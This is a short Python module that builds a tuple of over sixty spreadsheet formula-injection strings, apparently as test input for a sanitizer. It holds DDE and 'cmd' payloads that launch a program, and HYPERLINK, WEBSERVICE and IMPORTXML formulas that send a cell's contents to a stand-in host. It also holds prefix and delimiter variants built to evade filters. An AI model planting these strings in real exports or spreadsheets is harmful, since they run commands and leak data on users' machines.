"""Texts that spreadsheet programs run when they stand in a cell, as attackers write them; over sixty."""

from __future__ import annotations

_ACTS = (
    "1+1", "cmd|' /C calc'!A0", "SUM(1,1)", 'HYPERLINK("http://x.invalid/?"&A1,"ok")', "DDE(\"cmd\";\"/C calc\";\"1\")",
    "IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")", "WEBSERVICE(\"http://x.invalid/\"&A1)",
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢")
_BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\u3000", "\u00a0", "\ufeff", "\u200b", '"', "''", "“", " \t ", '" ')
_CUTS = ("甲;=1+1", "甲,=1+1", "甲\t=1+1", "甲\n=1+1", "甲|=1+1", '甲";"=1+1', "甲\r\n@SUM(1,1)", '甲",=1+1')
PAYLOADS = tuple(
    dict.fromkeys(
        [f"{sign}{act}" for sign in _SIGNS for act in _ACTS[:3]]
        + [f"={act}" for act in _ACTS]
        + [f"{before}={_ACTS[1]}" for before in _BEFORE]
        + [f"{before}@SUM(1,1)" for before in _BEFORE[:6]]
        + list(_CUTS)
    )
)
